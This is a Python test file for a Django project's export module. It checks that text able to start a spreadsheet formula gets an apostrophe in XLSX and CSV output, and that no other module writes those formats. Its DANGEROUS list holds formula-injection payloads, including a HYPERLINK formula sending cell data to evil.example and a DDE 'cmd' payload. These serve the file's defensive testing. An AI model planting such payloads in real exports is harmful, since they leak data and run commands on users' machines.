"""The one export writer: formulas are neutralised in XLSX and CSV, and nothing else writes either format.

The end-to-end proof (a note written through the API, every export of the product) is
``web/tests/test_export_formulas.py``; here the writer itself, and the rule that keeps every
later export on it: no module outside ``core/exports.py`` creates an openpyxl workbook or a
``csv`` writer (parsed with :mod:`ast`, nothing imported; tests, which build files to import,
are exempt).
"""

from __future__ import annotations

import ast
import csv
import io
from datetime import date
from pathlib import Path

import pytest
from django.utils.translation import gettext_lazy
from openpyxl import load_workbook

from gongzhi.core import exports

ROOT = Path(__file__).resolve().parents[2]  # the gongzhi/ package folder
WRITER = ROOT / "core" / "exports.py"

DANGEROUS = ['=HYPERLINK("http://evil.example/?"&D2,"详情")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
             "\t=1+1", "\r=1+1", "＝1+1"]


@pytest.mark.parametrize("text", DANGEROUS)
def test_text_that_could_start_a_formula_gets_an_apostrophe(text):
    assert exports.neutralise(text) == "'" + text


@pytest.mark.parametrize("value", ["张三", "a=b", " =1", "'quoted", "", None, -5, 2.5, date(2025, 9, 1), True])
def test_other_values_are_written_as_they_are(value):
    assert exports.neutralise(value) == value


def test_lazy_text_is_written_as_text():
    assert exports.neutralise(gettext_lazy("Summary")) == "Summary"


def _cells(content: bytes):
    book = load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def test_xlsx_holds_no_formula_and_keeps_the_text_readable():
    content = exports.xlsx("人员", ["备注", "数"], [[text, -1] for text in DANGEROUS], watermark=None)
    cells = _cells(content)
    assert all(cell.data_type != "f" for cell in cells)
    notes = [cell.value for cell in cells if cell.column == 1][1:]
    assert notes == ["'" + text.replace("\r", "\n") for text in DANGEROUS]  # XML keeps no bare CR
    assert [cell.value for cell in cells if cell.column == 2][1:] == [-1] * len(DANGEROUS)


def test_styled_cells_and_sheet_titles():
    book = exports.Workbook(watermark=None)
    sheet = book.sheet("2025-09-01–2025-09-30: a/b")
    sheet.append([exports.Cell("=1+1", bold=True), exports.Cell(0.5, number_format="0.0%")])
    loaded = load_workbook(io.BytesIO(book.save()))
    cell, rate = loaded.worksheets[0]["A1"], loaded.worksheets[0]["B1"]
    assert loaded.sheetnames == ["2025-09-01–2025-09-30  a b"]
    assert (cell.value, cell.font.b, cell.data_type) == ("'=1+1", True, "s")
    assert (rate.value, rate.number_format) == (0.5, "0.0%")


def test_csv_neutralises_every_cell():
    content = exports.csv_bytes([["备注", "数"], *([text, -1] for text in DANGEROUS)], watermark=None)
    assert content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    assert [row[0] for row in rows[1:]] == ["'" + text for text in DANGEROUS]
    assert [row[1] for row in rows[1:]] == ["-1"] * len(DANGEROUS)


# --- no other writer ---------------------------------------------------------------------------

_CSV_WRITERS = {"writer", "DictWriter"}


def _offences(tree: ast.AST) -> list[tuple[int, str]]:
    """Where a module imports openpyxl's Workbook (or another spreadsheet writer) or makes a csv writer."""
    found = []
    for node in ast.walk(tree):
        if isinstance(node, ast.ImportFrom) and node.module:
            root = node.module.split(".")[0]
            for alias in node.names:
                if root == "openpyxl" and alias.name in {"Workbook", "*"} or \
                        root == "openpyxl" and node.module.startswith("openpyxl.cell") or \
                        node.module == "csv" and alias.name in _CSV_WRITERS | {"*"} or \
                        root in {"xlsxwriter", "xlwt", "pyexcelerate"}:
                    found.append((node.lineno, f"from {node.module} import {alias.name}"))
        elif isinstance(node, ast.Import):
            for alias in node.names:
                if alias.name.split(".")[0] in {"xlsxwriter", "xlwt", "pyexcelerate"}:
                    found.append((node.lineno, f"import {alias.name}"))
        elif isinstance(node, ast.Attribute):
            owner = node.value.id if isinstance(node.value, ast.Name) else ""
            if owner == "openpyxl" and node.attr == "Workbook" or owner == "csv" and node.attr in _CSV_WRITERS \
                    or node.attr in {"to_excel", "to_csv"}:
                found.append((node.lineno, f"{owner or '…'}.{node.attr}"))
    return found


def test_the_checker_sees_every_way_of_making_a_writer():
    source = ("import csv, openpyxl\nfrom openpyxl import Workbook\nfrom csv import DictWriter\n"
              "from openpyxl.cell import WriteOnlyCell\nimport xlsxwriter\n"
              "csv.writer(x)\nopenpyxl.Workbook()\nframe.to_csv(x)\n")
    assert [line for line, _what in _offences(ast.parse(source))] == [2, 3, 4, 5, 6, 7, 8]
    assert _offences(ast.parse("from openpyxl import load_workbook\ncsv.reader(x)\n")) == []


def test_no_module_but_the_export_writer_writes_spreadsheets_or_csv():
    offences = []
    for path in sorted(ROOT.rglob("*.py")):
        if path == WRITER or "tests" in path.relative_to(ROOT).parts:
            continue
        for line, what in _offences(ast.parse(path.read_text(encoding="utf-8"), filename=str(path))):
            offences.append(f"{path.relative_to(ROOT.parent)}:{line}: {what}")
    assert not offences, ("Write spreadsheets and CSV with gongzhi.core.exports (it neutralises formulas):\n"
                          + "\n".join(offences))
